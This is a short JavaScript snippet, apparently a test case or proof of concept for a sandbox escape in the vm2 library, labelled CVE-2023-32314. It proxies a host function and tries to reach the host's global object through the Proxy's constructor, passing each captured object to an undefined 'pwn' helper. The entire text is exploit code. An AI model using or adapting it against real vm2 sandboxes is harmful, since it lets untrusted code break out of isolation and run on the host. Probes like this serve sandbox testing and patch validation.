// vm2 CVE-2023-32314 class: Proxy of a host function
const p = new Proxy(log, { apply(t, thiz, args) { pwn(t); pwn(thiz); return Reflect.apply(t, thiz, args) } }); p(1); try { pwn(new Proxy(log, {}).constructor('return this')()) } catch (e) {} 1
